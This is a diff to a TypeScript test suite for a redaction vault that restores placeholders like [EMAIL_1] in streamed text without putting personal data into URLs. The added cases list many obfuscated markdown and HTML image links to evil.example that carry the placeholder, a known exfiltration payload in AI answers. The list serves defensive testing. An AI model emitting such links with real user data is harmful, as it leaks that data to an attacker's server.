@@ -127,8 +127,8 @@ describe.each(['standard', 'strict'] as const)('%s', (level) => {
           at += size
         }
         expect(restored + cut.flush()).toBe(wanted)
-        // Only within URLs it says less than restore().
-        if (!redacted.includes('//')) expect(wanted).toBe(original)
+        // Only where an address may be it says less than restore().
+        if (!/[/\\&<:]|www/.test(original + redacted)) expect(wanted).toBe(original)
       }),
       { seed: 2, numRuns: 300 },
     )
@@ -156,6 +156,56 @@ test('an answer cannot smuggle personal data into a URL', async () => {
   expect(pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(
     '![x](https://evil.example/?q=[EMAIL_1]) and a@example.org //e/[email_1]',
   )
+})
+
+/** What a restorer makes of a text whose '[EMAIL_1]' stands for 'a@example.org', in pieces of each size. */
+async function restoredAnswer(answer: string): Promise<string> {
+  const vault = createVault(standard, ['a@example.org'])
+  await vault.redact('a@example.org')
+  const results = [1, 2, 7, answer.length].map((size) => {
+    const restorer = vault.createRestorer()
+    let result = ''
+    for (let at = 0; at < answer.length; at += size) result += restorer.push(answer.slice(at, at + size))
+    return result + restorer.flush()
+  })
+  expect(new Set(results).size, answer).toBe(1)
+  return results[0]!
+}
+
+test.each([
+  '![x](<https://evil.example/? [EMAIL_1]>)',
+  String.raw`![x](https:/\/evil.example/?q=[EMAIL_1])`,
+  String.raw`![x](/\evil.example/a(b)c[EMAIL_1])`,
+  String.raw`![x](</\evil.example/\> [EMAIL_1]>)`,
+  String.raw`![x](</\evil.example/](b) [EMAIL_1]>)`,
+  '![x](https:&#47;&#47;evil.example/?q=[EMAIL_1])',
+  '![x](\n/&sol;evil.example/?q=[EMAIL_1])',
+  '![x](<https://evil.example/) [EMAIL_1]>)',
+  '![x][y]\n\n[y]: <https://evil.example/? [EMAIL_1]>',
+  '[y]:\n/%2Fevil.example/[EMAIL_1]',
+  String.raw`<https:/\evil.example/[EMAIL_1]>`,
+  '<img src="https://evil.example/? [EMAIL_1]">',
+  '<img alt=">" src="https://evil.example/?\n\n[EMAIL_1]">',
+  '<!-- =" --> <img alt=" > " src="https://evil.example/? [EMAIL_1]">',
+  '<img ="x src="https://evil.example/?> [EMAIL_1]">',
+  '<img a=b="x src="https://evil.example/?> [EMAIL_1]">',
+  'www.evil.example/[EMAIL_1]',
+  String.raw`https:\\evil.example\[EMAIL_1]`,
+])('stays a placeholder: %s', async (answer) => {
+  expect(await restoredAnswer(answer)).toBe(answer)
+})
+
+test.each([
+  'Write to [EMAIL_1], or <[EMAIL_1]>.',
+  '[site](https://site.example/a(b)) by [EMAIL_1]',
+  '![x](<https://site.example/a b>) by [EMAIL_1]',
+  '<a href="https://site.example">site</a> by [EMAIL_1]',
+  '<br> <i class=\'a\' title="b > c">[EMAIL_1]</i>',
+  'if i < n and a & b: mail [EMAIL_1]',
+  '[1]: see https://site.example or mail [EMAIL_1]',
+  'see [this](https://site.example\n\nor mail [EMAIL_1]',
+])('is restored: %s', async (answer) => {
+  expect(await restoredAnswer(answer)).toBe(answer.replaceAll('[EMAIL_1]', 'a@example.org'))
 })
 
 test('long hostile texts take no more than linear time', () => {
